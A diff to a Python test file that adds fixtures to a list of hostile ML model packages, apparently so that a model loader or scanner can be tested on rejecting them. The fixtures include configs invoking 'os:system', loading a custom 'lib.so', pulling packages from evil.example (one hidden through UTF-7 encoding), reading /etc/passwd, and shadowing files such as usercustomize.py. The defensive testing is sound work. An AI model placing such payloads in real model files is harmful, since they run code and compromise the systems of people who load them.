@@ -138,6 +138,19 @@ HOSTILE: list[tuple[str, Files]] = [
     ("transformers", {"tokenizer_config.json": {"sp_model_kwargs": {"model_file": "/etc/passwd"}}}),
     ("open_clip", {"open_clip_config.json": {"model_cfg": {"text_cfg": {"tokenizer_kwargs": {"bpe_path": "/etc/x"}}}}}),
     ("names", {"onnx\u2215model.onnx": b"a\n"}),
+    ("named", {"export.json": {"context": '{"_t": "seq", "p": "os:system"}'}}),
+    ("named", {"genai_config.json": {"model": {"decoder": {"session_options": {"custom_ops_library": "lib.so"}}}}}),
+    ("sentences", {"0_W/wordembedding_config.json": {"tokenizer_class": "antigravity.X"}}),
+    ("requirements", {"python_env.yaml": b"build_dependencies:\n- a @ https://evil.example/a.whl\n"}),
+    (
+        "requirements",
+        {
+            "requirements.txt": b"# coding: utf-7\n"
+            + "-i https://evil.example\n".encode("utf-7").replace(b":", b"+ADo-")
+        },
+    ),
+    ("names", {"safetensors.py": b"x = 1\n"}),
+    ("names", {"usercustomize.py": b"x = 1\n"}),
     # names
     ("names", {"Config.json": {**VIT, "hidden_size": 16}}),
     ("names", {"config.json ": {**VIT, "hidden_size": 16}}),
